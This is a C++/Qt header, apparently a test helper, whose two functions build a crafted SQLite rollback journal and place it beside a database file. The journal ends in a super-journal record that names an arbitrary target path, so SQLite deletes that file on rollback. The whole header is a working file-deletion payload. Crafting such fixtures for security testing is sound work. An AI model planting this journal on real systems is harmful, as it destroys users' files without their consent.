// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>
#include <QFile>
#include <QString>
#include <QtEndian>

#include <numeric>

/// A rollback journal of no pages, for a file of `pages` pages, that ends in a super-journal record naming `target`, which SQLite
/// deletes after a rollback.
inline QByteArray journalNaming(const QString &target, qint64 pages)
{
    const auto number = [](quint32 value) {
        QByteArray bytes(4, '\0');
        qToBigEndian(value, bytes.data());
        return bytes;
    };
    const QByteArray magic = QByteArray::fromHex("d9d505f920a163d7");
    const QByteArray name = QFile::encodeName(target);
    const quint32 sum = std::accumulate(name.begin(), name.end(), quint32{0}, [](quint32 total, char c) {
        return total + static_cast<quint32>(static_cast<signed char>(c));
    });
    constexpr quint32 SectorSize = 512;
    constexpr quint32 PageSize = 4096;
    constexpr quint32 PageOfLocks = 0x40000000 / PageSize + 1;
    QByteArray header =
        magic + number(0) + number(0) + number(static_cast<quint32>(pages)) + number(SectorSize) + number(PageSize);
    header.append(SectorSize - header.size(), '\0');
    return header + number(PageOfLocks) + name + number(static_cast<quint32>(name.size())) + number(sum) + magic;
}

/// Puts such a journal next to a database file.
inline bool addHostileJournal(const QString &database, const QString &target)
{
    QFile journal(database + QStringLiteral("-journal"));
    const QByteArray bytes = journalNaming(target, QFile(database).size() / 4096);
    return journal.open(QIODevice::WriteOnly) && journal.write(bytes) == bytes.size();
}
